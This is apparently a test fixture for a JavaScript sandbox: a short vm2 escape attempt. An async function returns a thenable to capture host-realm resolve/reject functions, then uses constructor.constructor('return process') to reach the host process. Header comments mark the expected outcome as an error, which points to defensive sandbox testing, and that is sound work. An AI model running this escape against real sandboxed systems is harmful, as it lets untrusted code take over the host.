// attack: vm2's escape through an async function that gives a thenable, whose then gets functions of the host
// outcome: error process
// control: outside
const taken = [];
const thenable = { then: (resolve, reject) => (taken.push(resolve, reject), resolve(1)) };
await (async () => thenable)();
await thenable;
if (taken.length < 4) throw new Error('then was not called');
taken[0].constructor.constructor('return process')().pid;
